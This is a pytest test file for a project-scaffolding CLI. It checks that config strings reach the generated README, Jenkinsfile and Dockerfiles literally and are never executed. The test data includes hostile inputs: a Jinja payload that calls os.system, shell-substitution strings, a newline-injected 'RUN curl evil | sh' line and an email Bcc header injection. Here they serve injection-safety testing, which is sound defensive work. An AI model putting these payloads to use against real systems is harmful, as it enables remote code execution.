"""Config text is data: hostile strings in every field reach each generated file literally."""

from __future__ import annotations

import ast
import json
import re
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from skillmaker.config.model import SkillConfig
from tests.scaffold.conftest import EXAMPLES, run_cli

NASTY = "{{ 7*7 }} {% if 1 %}IF{% endif %} \"dq\" 'sq' \\back\\ $(touch PWNED) `id` ; | & <b> *e* _u_ [l](x) # ~s~"
PAYLOAD = "{{ cycler.__init__.__globals__.os.system('touch PWNED') }}"


def hostile(tmp_path: Path) -> dict[str, Any]:
    raw: dict[str, Any] = json.loads((EXAMPLES / "digits.json").read_text())
    class_file = "classes {{ 7*7 }} 'q' $(x).json"
    (tmp_path / class_file).write_text(json.dumps([str(d) for d in range(10)]))
    raw.update(title=NASTY, ticket=PAYLOAD, owner="o'{{7*7}}$(x)`;|&<>\"@ex.ample.com")
    raw["data"].update(
        source="file:///data/{{ 7*7 }}/'$(touch PWNED)`\\\"", class_file=class_file,
        exclude_classes=[NASTY],
    )  # fmt: skip
    raw["deploy"].update(
        artifacts="file:///art/{% raw %}'\"\\$x",
        infra_repo=NASTY,
        template_path="t/{{ 7*7 }}'.yaml",
        mapping_name=NASTY,
        stack_name=NASTY,
        region=NASTY,
    )
    raw["notify"] = {"slack_channel": "#skills", "email": ["r'{{7*7}}@ex.ample.com"]}
    raw["images"] = {
        "registry": "registry.example.com:5000/team",
        "cpu_base": "python:3.11-slim@sha256:" + "a" * 64,
        "extra_run": ["echo \"{{ 7*7 }}\" '$HOME' \\\\ ; true # {% x %}"],
    }
    raw["ci"] = {
        "timeout_hours": 4,
        "agents": {"train": "gpu && !(small || old)"},
        "timeouts": {"train": 90},
    }
    return raw


@pytest.fixture
def stamped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    config = tmp_path / "skill.json"
    config.write_text(json.dumps(hostile(tmp_path)))
    code, _, err = run_cli("new", "--config", str(config), "--output", str(tmp_path / "repo"))
    assert code == 0, err
    return tmp_path / "repo"


def _no_pwned(root: Path) -> None:
    assert not list(root.rglob("PWNED")), "a config value was executed"


def test_no_config_value_is_evaluated_by_new_or_upgrade_check(stamped: Path) -> None:
    root = stamped.parent
    _no_pwned(root)
    code, out, _ = run_cli("upgrade", "--repo", str(stamped), "--check")
    assert code == 0, out
    code, _, _ = run_cli("upgrade", "--repo", str(stamped))
    assert code == 0
    _no_pwned(root)
    for path in stamped.rglob("*"):
        if path.is_file() and not {".git", ".skillmaker"} & set(path.parts):
            text = re.sub(r"[0-9a-f]{64}", "", path.read_text())
            assert "49" not in text, path


def _md_text(markdown: str) -> str:
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    parts: list[str] = []
    for token in tokens:
        for child in token.children or []:
            if child.type in ("text", "code_inline"):
                parts.append(child.content)
    return "\n".join(parts)


def test_readme_shows_every_value_literally(stamped: Path) -> None:
    readme = (stamped / "README.md").read_text()
    shown = _md_text(readme)
    raw = hostile(stamped.parent)
    for value in (
        raw["title"],
        raw["ticket"],
        raw["owner"],
        raw["data"]["source"],
        raw["data"]["class_file"],
        raw["deploy"]["infra_repo"],
        raw["deploy"]["template_path"],
        raw["ci"]["agents"]["train"],
    ):
        assert value in shown, value
    html = MarkdownIt("commonmark").enable("table").render(readme)
    assert "<b>" not in html and "<em>" not in html and "<a " not in html


def test_jenkinsfile_carries_the_settings_as_groovy_strings(stamped: Path) -> None:
    text = (stamped / "Jenkinsfile").read_text()
    assert "timeout(time: 4, unit: 'HOURS')" in text
    assert "label 'gpu && !(small || old)'" in text
    assert "timeout(time: 90, unit: 'MINUTES')" in text
    strings = [re.sub(r"\\(.)", r"\1", s) for s in re.findall(r"'((?:[^'\\\n]|\\.)*)'", text)]
    assert NASTY in strings and PAYLOAD in strings


def test_dockerfile_extra_layers_are_exec_form_json(stamped: Path) -> None:
    raw = hostile(stamped.parent)
    for name in ("Dockerfile.cpu", "Dockerfile.gpu"):
        lines = (stamped / name).read_text().splitlines()
        runs = [json.loads(line[4:]) for line in lines if line.startswith('RUN ["')]
        assert runs == [["/bin/sh", "-eu", "-c", raw["images"]["extra_run"][0]]]
    assert f"ARG BASE_IMAGE={raw['images']['cpu_base']}" in (stamped / "Dockerfile.cpu").read_text()


def test_generated_python_and_json_parse(stamped: Path) -> None:
    ast.parse((stamped / "tests" / "test_smoke.py").read_text())
    assert json.loads((stamped / "skill.json").read_text())["title"] == NASTY
    json.loads((stamped / ".skillmaker" / "manifest.json").read_text())


LINE_FIELDS = [
    ("title",),
    ("ticket",),
    ("owner",),
    ("data", "source"),
    ("data", "class_file"),
    ("deploy", "infra_repo"),
    ("deploy", "template_path"),
    ("deploy", "region"),
    ("notify", "slack_channel"),
    ("images", "cpu_base"),
    ("images", "gpu_base"),
    ("images", "registry"),
]


@pytest.mark.parametrize("path", LINE_FIELDS, ids=".".join)
def test_a_newline_is_refused_where_a_line_is_expected(
    tmp_path: Path, path: tuple[str, ...]
) -> None:
    raw: dict[str, Any] = json.loads((EXAMPLES / "digits.json").read_text())
    node = raw
    for key in path[:-1]:
        node = node.setdefault(key, {})
    node[path[-1]] = "python:3.11\nRUN curl evil | sh" if path[0] == "images" else "a@b.co\nBcc: x"
    config = tmp_path / "skill.json"
    config.write_text(json.dumps(raw))
    code, _, err = run_cli("new", "--config", str(config), "--output", str(tmp_path / "repo"))
    assert code == 2
    assert f"skill.json: {'.'.join(path)}: " in err
    assert not (tmp_path / "repo").exists()


@pytest.mark.parametrize(
    ("key", "value", "ok"),
    [
        ("registry", "registry.example.com", True),
        ("registry", "localhost:5000/team/sub", True),
        ("registry", "not a registry!!", False),
        ("registry", "https://registry.example.com", False),
        ("cpu_base", "python:3.11-slim", True),
        ("cpu_base", "ghcr.io/org/img:1.2@sha256:" + "0" * 64, True),
        ("cpu_base", "Python:3.11", False),
        ("cpu_base", "python:3.11 AS evil", False),
        ("cpu_base", "python:", False),
    ],
)
def test_images_are_validated_as_oci_references(key: str, value: str, ok: bool) -> None:
    raw: dict[str, Any] = json.loads((EXAMPLES / "digits.json").read_text())
    raw["images"] = {key: value}
    if ok:
        assert getattr(SkillConfig.model_validate(raw).images, key) == value
    else:
        with pytest.raises(ValueError, match="OCI"):
            SkillConfig.model_validate(raw)


def test_a_setting_for_a_stage_that_does_not_exist_is_refused(tmp_path: Path) -> None:
    raw: dict[str, Any] = json.loads((EXAMPLES / "digits.json").read_text())
    raw["ci"] = {"agents": {"trian": "gpu"}, "timeouts": {"train": 60}}
    config = tmp_path / "skill.json"
    config.write_text(json.dumps(raw))
    for args in (("validate",), ("new", "--output", str(tmp_path / "repo"))):
        code, _, err = run_cli(*args, "--config", str(config))
        assert code == 2
        assert "skill.json: ci.agents.trian: must be one of version, build, data," in err
    assert not (tmp_path / "repo").exists()
